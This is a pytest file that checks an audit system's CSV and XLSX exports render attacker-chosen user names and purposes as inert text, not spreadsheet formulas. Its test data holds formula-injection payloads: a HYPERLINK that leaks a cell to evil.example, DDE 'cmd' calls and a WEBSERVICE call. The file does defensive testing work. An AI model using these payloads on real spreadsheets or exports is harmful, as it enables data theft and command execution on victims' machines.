"""The audit exports carry attacker-chosen text (the user name of a failed login, a stated
purpose) as inert text, never as a formula (issue 10, item 9), and stay readable: stripping the
escaping quote gives back the stored value, whose hash still checks."""

from __future__ import annotations

import csv
import io

import httpx
import openpyxl

from tests.access.conftest import user
from xueliang.access.audit import EXPORT_COLUMNS, FIELDS, record_hash

NAMES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "'=1+1",
]


def _is_formula_text(v: object) -> bool:
    return isinstance(v, str) and v[:1] in ("=", "+", "-", "@", "\t", "\r")


async def test_failed_login_names_are_inert_in_the_audit_exports(client: httpx.AsyncClient, platform) -> None:  # type: ignore[no-untyped-def]
    aud = await user(platform, "aud", "auditor")
    for name in NAMES:
        r = await client.post("/api/v1/auth/login", json={"username": name, "password": "wrong"})
        assert r.status_code in (401, 422), r.text
    # A stated purpose is attacker-chosen too.
    platform.access.audit.append("media.live", "ok", actor="aud", purpose="=WEBSERVICE(\"http://evil.example\")",
                                 detail={"note": "=1+1"})

    r = await client.get("/api/v1/audit/records.csv", headers=aud)
    assert r.status_code == 200
    table = list(csv.reader(io.StringIO(r.text.lstrip("\ufeff"))))
    assert table[0] == EXPORT_COLUMNS
    cells = [c for row in table[1:] for c in row]
    assert not [c for c in cells if _is_formula_text(c)], [c for c in cells if _is_formula_text(c)]
    from xueliang.registry.spreadsheet import unescape_cell

    actors = [unescape_cell(row[EXPORT_COLUMNS.index("actor")]) for row in table[1:]]
    for name in NAMES:
        assert name.strip() in [a.strip() for a in actors], (name, actors)

    r = await client.get("/api/v1/audit/records.xlsx", headers=aud)
    assert r.status_code == 200
    ws = openpyxl.load_workbook(io.BytesIO(r.content)).worksheets[0]
    rows = list(ws.iter_rows())
    formulas = [c.coordinate for row in rows for c in row if c.data_type == "f"]
    assert not formulas, f"formula cells in the audit export: {formulas}"
    values = [[c.value for c in row] for row in rows]
    assert not [v for row in values[1:] for v in row if _is_formula_text(v)]
    # Unescaped, an exported row is the stored record: its hash checks.
    head = values[0]
    for row in values[1:]:
        rec = {h: (unescape_cell(v) if isinstance(v, str) else v) for h, v in zip(head, row, strict=True)}
        for f in ("actor", "role", "action", "resource_type", "resource_id", "ip", "outcome"):
            rec[f] = rec[f] or ""  # xlsx keeps no difference between empty and none
        assert record_hash({f: rec[f] for f in FIELDS}) == rec["hash"], rec
    assert any(row[head.index("actor")] == "'" + NAMES[0] for row in values)


async def test_a_control_character_in_a_user_name_does_not_break_the_xlsx_export(client: httpx.AsyncClient, platform) -> None:  # type: ignore[no-untyped-def]
    """XML cannot hold most control characters: one failed login must not make the audit
    unexportable (it becomes U+FFFD in the xlsx; the csv keeps it)."""
    aud = await user(platform, "aud", "auditor")
    r = await client.post("/api/v1/auth/login", json={"username": "bell\x07\x1b=1", "password": "wrong"})
    assert r.status_code in (401, 422)
    r = await client.get("/api/v1/audit/records.xlsx", headers=aud)
    assert r.status_code == 200
    ws = openpyxl.load_workbook(io.BytesIO(r.content)).worksheets[0]
    assert "bell\ufffd\ufffd=1" in [c.value for row in ws.iter_rows() for c in row]
    r = await client.get("/api/v1/audit/records.csv", headers=aud)
    assert "bell\x07\x1b=1" in r.text
